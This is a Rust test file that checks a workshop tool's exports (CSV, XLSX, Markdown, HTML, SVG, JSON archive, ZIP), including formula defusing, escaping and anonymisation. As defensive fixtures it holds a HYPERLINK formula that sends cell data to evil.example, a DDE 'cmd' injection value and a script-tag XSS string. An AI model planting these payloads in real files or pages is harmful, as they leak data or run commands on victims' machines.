//! Export tests on one fixture event: golden Markdown and CSV, CSV and XLSX and ZIP read back, the archive round trip, escaping, anonymity.
//!
//! Golden files live in `shared/tests/golden/`. After an intended change of the output,
//! rewrite them with `UPDATE_GOLDEN=1 cargo test -p werktafel-shared --test exports` and
//! review the diff.

mod day;
mod support;

use werktafel_shared::export::cell::{CUT_MARK, MAX_CELL_UNITS};
use werktafel_shared::export::{
    Formulas, csv, html, iso8601, json, markdown, package, parse_iso8601, svg, xlsx,
};
use werktafel_shared::schema;
use werktafel_shared::{CsvDelimiter, ExportError, TableState};
use yrs::Doc;

use support::*;

#[test]
fn markdown_matches_golden() {
    let fixture = fixture();
    let text = markdown::workbook(&fixture.snapshot(), &options());
    assert_golden("werkboek.md", text.as_bytes());
}

#[test]
fn csv_matches_golden() {
    let fixture = fixture();
    let bytes = csv::notes_csv(&fixture.snapshot(), &options()).expect("CSV export");
    assert_golden("notities.csv", &bytes);
}

#[test]
fn csv_reads_back_with_either_delimiter() {
    let fixture = fixture();
    for delimiter in [CsvDelimiter::Comma, CsvDelimiter::Semicolon] {
        let options = options().with_csv_delimiter(delimiter);
        let bytes = csv::notes_csv(&fixture.snapshot(), &options).expect("CSV export");
        let rows = read_csv(&bytes, delimiter.byte());
        assert_eq!(rows[0], csv::COLUMNS, "header with {delimiter:?}");
        assert_eq!(
            rows.len(),
            1 + 8,
            "header plus one row per note with {delimiter:?}"
        );
        let tricky = rows
            .iter()
            .find(|r| r[4] == TRICKY)
            .expect("tricky text survives");
        assert_eq!(
            tricky[..4],
            ["atelierdag-2022", "a", "Vitale systemen", "doorpakken"]
        );
        assert_eq!(
            tricky[5..],
            [
                "Bram de Vries",
                "roze",
                "2022-06-09T14:32:00.000Z",
                "2022-06-09T14:32:00.000Z",
                "0",
                "",
                "",
                ""
            ]
        );
        assert!(rows.iter().any(|r| r[4] == SCRIPT));
        let brought_in = rows
            .iter()
            .find(|r| r[4].starts_with("Samenwerking met de netbeheerders"))
            .expect("the note from the market");
        assert_eq!(
            brought_in[12],
            "markt OT 2 (Stedelijk programmeren en samenwerken)"
        );
        assert!(rows.iter().all(|r| r.len() == csv::COLUMNS.len()));
    }
}

#[test]
fn archive_round_trip_is_byte_identical_and_lossless() {
    let fixture = fixture();
    let first =
        json::write_archive(&fixture.event, &fixture.states(), &[], &options()).expect("archive");
    let archive = json::read_archive(&first).expect("archive reads back");
    assert_eq!(archive.event, fixture.event);
    assert_eq!(archive.exported_at_ms, EXPORTED_AT);
    assert_eq!(archive.tables.len(), 4);

    // Restore as `werktafel import` would: a document per table from its state.
    let restored: Vec<(TableState, Doc)> = archive
        .tables
        .iter()
        .map(|state| (state.clone(), state.to_doc().expect("state applies")))
        .collect();
    for ((id, original), (state, doc)) in fixture.docs.iter().zip(&restored) {
        assert_eq!(state.table_id.as_str(), id);
        assert_eq!(
            schema::read_notes(doc),
            schema::read_notes(original),
            "notes of table {id}"
        );
        assert_eq!(
            schema::read_meta(doc),
            schema::read_meta(original),
            "meta of table {id}"
        );
    }
    let second = json::write_archive(&archive.event, &archive.tables, &[], &options())
        .expect("archive again");
    assert!(
        first == second,
        "export → import → export changed the archive"
    );

    // Re-encoded from the restored documents, the states still restore the same content
    // (their bytes may differ: yrs encodes plain map values in HashMap order).
    let states: Vec<TableState> = restored
        .iter()
        .map(|(state, doc)| TableState::encode(state.table_id.clone(), doc))
        .collect();
    let third =
        json::write_archive(&archive.event, &states, &[], &options()).expect("archive from docs");
    let again = json::read_archive(&third).expect("reads back");
    for (state, (id, original)) in again.tables.iter().zip(&fixture.docs) {
        let doc = state.to_doc().expect("applies");
        assert_eq!(
            schema::read_notes(&doc),
            schema::read_notes(original),
            "notes of table {id}"
        );
        assert_eq!(
            schema::read_meta(&doc),
            schema::read_meta(original),
            "meta of table {id}"
        );
    }
}

#[test]
fn archive_orders_tables_by_the_event_whatever_the_input_order() {
    let fixture = fixture();
    let mut states = fixture.states();
    states.reverse();
    let reversed = json::write_archive(&fixture.event, &states, &[], &options()).expect("archive");
    let ordered =
        json::write_archive(&fixture.event, &fixture.states(), &[], &options()).expect("archive");
    assert!(reversed == ordered);
}

#[test]
fn bad_archives_are_refused_with_a_reason() {
    let fixture = fixture();
    let good =
        json::write_archive(&fixture.event, &fixture.states(), &[], &options()).expect("archive");
    let value: serde_json::Value = serde_json::from_slice(&good).expect("archive is JSON");
    let with = |edit: &dyn Fn(&mut serde_json::Value)| {
        let mut v = value.clone();
        edit(&mut v);
        serde_json::to_vec(&v).expect("serializes")
    };
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("not JSON", b"{ nope".to_vec(), "not valid JSON"),
        (
            "other format",
            with(&|v| v["format"] = "tldraw".into()),
            "not a Werktafel archive",
        ),
        (
            "newer version",
            with(&|v| v["version"] = 3.into()),
            "versions 1 and 2",
        ),
        (
            "bad time",
            with(&|v| v["exportedAt"] = "gisteren".into()),
            "exportedAt",
        ),
        (
            "bad base64",
            with(&|v| v["tables"][0]["state"] = "%%%".into()),
            "base64",
        ),
        (
            "garbage state",
            with(&|v| v["tables"][0]["state"] = "/////w==".into()),
            "table a",
        ),
        (
            "duplicate table",
            with(&|v| v["tables"][1]["id"] = "a".into()),
            "more than once",
        ),
        (
            "bad table id",
            with(&|v| v["tables"][1]["id"] = "B!".into()),
            "invalid",
        ),
        (
            "invalid event",
            with(&|v| v["event"]["tables"] = serde_json::json!([])),
            "no tables",
        ),
    ];
    for (what, bytes, needle) in cases {
        match json::read_archive(&bytes) {
            Ok(_) => panic!("{what}: archive was accepted"),
            Err(err) => {
                let message = err.to_string();
                assert!(
                    message.contains(needle),
                    "{what}: expected {needle:?} in {message:?}"
                );
            }
        }
    }
    assert!(matches!(
        json::read_archive(&with(&|v| v["version"] = 3.into())),
        Err(ExportError::ArchiveVersion { found: 3 })
    ));
}

#[test]
fn xlsx_opens_with_a_sheet_per_table_all_notes_and_next_steps() {
    let fixture = fixture();
    let bytes = xlsx::workbook(&fixture.snapshot(), &options()).expect("workbook");
    let sheets = xlsx_sheets(&bytes);
    let names: Vec<&str> = sheets.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(
        names,
        [
            "Markt",
            "A Vitale systemen",
            "B Afwegingskader",
            "C Rol van de gebiedsregisseur",
            "D Kosten-baten analyse",
            "Alle notities",
            "Vervolgstappen",
            "Lezing",
            "Rode lijnen",
            "Terugkoppeling"
        ]
    );
    let (_, a) = &sheets[1];
    assert_eq!(
        a[0],
        [
            "Baan",
            "Tekst",
            "Auteur",
            "Kleur",
            "Gemaakt",
            "Bijgewerkt",
            "Herkomst"
        ]
    );
    assert_eq!(a.len(), 1 + 4);
    assert!(
        a.iter()
            .any(|row| row[1] == TRICKY.replace("\r\n", "\n") || row[1] == TRICKY)
    );
    assert!(
        a.iter()
            .any(|row| row[1] == SCRIPT && row[2] == "Anna Jansen")
    );
    let (_, all) = &sheets[5];
    assert_eq!(all.len(), 1 + 8);
    assert_eq!(all[0][0], "Tafel");
    let (_, steps) = &sheets[6];
    assert_eq!(steps.len(), 1 + 2);
    assert_eq!(
        steps[1][..3],
        [
            "Tafel A",
            "Vitale systemen",
            "Ondergrond in kaart brengen met alle gemeenten"
        ]
    );
}

#[test]
fn csv_and_xlsx_defuse_formulas_unless_asked_to_keep_them() {
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")";
    let fixture = one_note(
        formula,
        &[
            ("author", "@SUM(1+1)*cmd|' /C calc'!A0"),
            ("owner", "+31 6 1234"),
            ("due", "-1"),
        ],
    );
    let snapshot = fixture.snapshot();
    let defused = [
        format!("'{formula}"),
        "'@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        "'+31 6 1234".to_owned(),
        "'-1".to_owned(),
    ];
    let kept = [
        formula.to_owned(),
        "@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        "+31 6 1234".to_owned(),
        "-1".to_owned(),
    ];
    for (options, expected) in [
        (options(), &defused),
        (options().with_formulas(Formulas::Keep), &kept),
    ] {
        let rows = read_csv(&csv::notes_csv(&snapshot, &options).expect("CSV"), b',');
        let note = &rows[1];
        assert_eq!(
            [&note[4], &note[5], &note[10], &note[11]],
            [&expected[0], &expected[1], &expected[2], &expected[3]],
            "CSV with {:?}",
            options.formulas
        );

        let sheets = xlsx_sheets(&xlsx::workbook(&snapshot, &options).expect("workbook"));
        let (_, table_a) = &sheets[1];
        assert_eq!(
            [&table_a[1][1], &table_a[1][2]],
            [&expected[0], &expected[1]]
        );
        let (_, steps) = &sheets[6];
        assert_eq!(
            [&steps[1][2], &steps[1][3], &steps[1][4], &steps[1][6]],
            [&expected[0], &expected[2], &expected[3], &expected[1]],
            "next steps sheet with {:?}",
            options.formulas
        );
    }
}

#[test]
fn fields_longer_than_an_excel_cell_export_in_every_format_cut_and_marked() {
    let long = "x".repeat(40_000);
    let emoji = "🌳".repeat(20_000);
    let formula = format!("={}", "1".repeat(40_000));
    let fixture = one_note(
        &long,
        &[("author", &emoji), ("owner", &formula), ("due", &long)],
    );
    let snapshot = fixture.snapshot();
    let options = options();

    let book = xlsx::workbook(&snapshot, &options).expect("a workbook despite long fields");
    let sheets = xlsx_sheets(&book);
    let utf16 = |s: &str| s.encode_utf16().count();
    let (_, steps) = &sheets[6];
    for cell in [&steps[1][2], &steps[1][3], &steps[1][4], &steps[1][6]] {
        assert!(
            cell.ends_with(CUT_MARK),
            "cut and marked: …{}",
            &cell[cell.len() - 20..]
        );
        assert!(utf16(cell) <= MAX_CELL_UNITS);
    }
    assert!(steps[1][3].starts_with("'="), "defused, then cut");
    assert!(
        steps[1][6]
            .trim_end_matches(CUT_MARK)
            .chars()
            .all(|c| c == '🌳')
    );

    let package = package::package(&snapshot, &fixture.states(), &[], &options).expect("a ZIP");
    assert!(!package.is_empty());
    let csv = csv::notes_csv(&snapshot, &options).expect("CSV");
    let rows = read_csv(&csv, b',');
    assert_eq!(rows[1][4], long, "the CSV keeps every character");
    assert!(markdown::workbook(&snapshot, &options).contains(&long));
    assert!(html::report(&snapshot, &options).contains(&long));
    json::write_archive(&fixture.event, &fixture.states(), &[], &options).expect("archive");
    assert!(svg::board("Bord", &snapshot.tables[0].notes).contains("xxxx"));
}

#[test]
fn package_holds_every_export_and_a_board_per_table() {
    let fixture = fixture();
    let bytes =
        package::package(&fixture.snapshot(), &fixture.states(), &[], &options()).expect("package");
    let entries = zip_entries(&bytes);
    let names: Vec<&str> = entries.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(
        names,
        [
            "werkboek.md",
            "notities.csv",
            "archief.json",
            "rapport.html",
            "werkboek.xlsx",
            "borden/a.svg",
            "borden/b.svg",
            "borden/c.svg",
            "borden/d.svg"
        ]
    );
    let archive = &entries[2].1;
    json::read_archive(archive).expect("the packaged archive reads back");
    assert_eq!(
        entries[0].1,
        markdown::workbook(&fixture.snapshot(), &options()).into_bytes()
    );
    let again =
        package::package(&fixture.snapshot(), &fixture.states(), &[], &options()).expect("package");
    assert!(bytes == again, "the same inputs give the same package");
}

#[test]
fn package_holds_the_poster_picture_of_a_table_on_the_poster() {
    let fixture = fixture();
    let mut snapshot = fixture.snapshot();
    snapshot.tables[0].poster.view = Some(werktafel_shared::poster::BoardView::Poster);
    let entries = zip_entries(
        &package::package(&snapshot, &fixture.states(), &[], &options()).expect("package"),
    );
    let names: Vec<&str> = entries.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(
        &names[5..],
        [
            "borden/a.svg",
            "borden/a-poster.svg",
            "borden/b.svg",
            "borden/c.svg",
            "borden/d.svg"
        ],
        "a poster picture for table A only"
    );
    let poster = String::from_utf8(entries[6].1.clone()).expect("UTF-8");
    assert!(poster.starts_with("<svg") && poster.contains("Poster — "));
    let (step, _) = svg::DROOMPROCES_STEPS[0];
    assert!(poster.contains(step), "the built-in droomproces drawing");
}

#[test]
fn svg_and_html_hold_every_note_escaped_and_no_script() {
    let fixture = fixture();
    let snapshot = fixture.snapshot();
    let report = html::report(&snapshot, &options());
    assert!(report.contains("@page { size: A4;"));
    assert_eq!(report.matches("<svg").count(), 4, "one board per table");
    assert!(
        !report.to_lowercase().contains("<script"),
        "a note's <script> is escaped"
    );
    for table in &snapshot.tables {
        let board = svg::board("Bord", &table.notes);
        assert!(!board.to_lowercase().contains("<script"));
        for note in &table.notes {
            let escaped = svg::escape(&note.text);
            assert!(
                board.contains(&escaped),
                "board of {} holds {:?}",
                table.table_id,
                note.id
            );
            assert!(report.contains(&escaped), "report holds {:?}", note.id);
        }
    }
    assert!(
        report.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; &quot;meer&quot;")
    );
    assert!(report.contains("Anna Jansen"));
}

#[test]
fn svg_places_notes_in_their_lane_and_colour() {
    let fixture = fixture();
    let snapshot = fixture.snapshot();
    let board = svg::board("Vitale systemen", &snapshot.tables[0].notes);
    // a-door-1: lane doorpakken (second, from x = 360), x = 180 in its lane, pink.
    assert!(
        board.contains(r##"<rect x="540" y="68" width="160" height="120" rx="6" fill="#ffc9de""##),
        "{board}"
    );
    assert!(board.starts_with("<svg xmlns=\"http://www.w3.org/2000/svg\""));
}

#[test]
fn anonymous_exports_name_no_author_anywhere() {
    let fixture = fixture();
    let snapshot = fixture.snapshot();
    let options = options().anonymous();
    let contains_author = |bytes: &[u8]| {
        let text = String::from_utf8_lossy(bytes);
        AUTHORS.iter().find(|name| text.contains(*name)).copied()
    };

    let markdown = markdown::workbook(&snapshot, &options);
    assert_eq!(contains_author(markdown.as_bytes()), None, "Markdown");
    let csv_bytes = csv::notes_csv(&snapshot, &options).expect("CSV");
    assert_eq!(contains_author(&csv_bytes), None, "CSV");
    assert!(
        read_csv(&csv_bytes, b',')[1..]
            .iter()
            .all(|row| row[5].is_empty())
    );
    assert_eq!(
        contains_author(html::report(&snapshot, &options).as_bytes()),
        None,
        "HTML"
    );

    let archive =
        json::write_archive(&fixture.event, &fixture.states(), &[], &options).expect("archive");
    let archive = json::read_archive(&archive).expect("anonymous archive reads back");
    for state in &archive.tables {
        assert_eq!(
            contains_author(&state.update),
            None,
            "document state of {}",
            state.table_id
        );
        assert!(
            !String::from_utf8_lossy(&state.update).contains("device-"),
            "author ids of {}",
            state.table_id
        );
        let notes = schema::read_notes(&state.to_doc().expect("state applies"));
        assert!(
            notes
                .iter()
                .all(|n| n.author.is_empty() && n.author_id.is_empty())
        );
    }
    // The texts are untouched.
    let restored = schema::read_notes(&archive.tables[0].to_doc().expect("applies"));
    assert!(restored.iter().any(|n| n.text == TRICKY));

    let workbook = xlsx::workbook(&snapshot, &options).expect("workbook");
    for (name, rows) in xlsx_sheets(&workbook) {
        let cells = rows.concat().join("\n");
        assert_eq!(contains_author(cells.as_bytes()), None, "sheet {name}");
    }
    let package = package::package(&snapshot, &fixture.states(), &[], &options).expect("package");
    for (name, content) in zip_entries(&package) {
        if !name.ends_with(".xlsx") && name != "archief.json" {
            assert_eq!(contains_author(&content), None, "{name} in the package");
        }
    }
}

#[test]
fn iso8601_matches_javascript_and_reads_back() {
    assert_eq!(iso8601(0), "1970-01-01T00:00:00.000Z");
    assert_eq!(iso8601(EXPORTED_AT), "2022-06-09T15:30:00.000Z");
    assert_eq!(iso8601(951_782_400_123), "2000-02-29T00:00:00.123Z");
    assert_eq!(iso8601(-1), "1969-12-31T23:59:59.999Z");
    for ms in [0, EXPORTED_AT, 951_782_400_123, -1, 4_102_444_799_999] {
        assert_eq!(parse_iso8601(&iso8601(ms)), Some(ms));
    }
    for bad in [
        "2022-02-30T00:00:00.000Z",
        "2022-06-09 15:30:00.000Z",
        "2022-06-09T15:30:00Z",
        "",
    ] {
        assert_eq!(parse_iso8601(bad), None, "{bad:?}");
    }
}
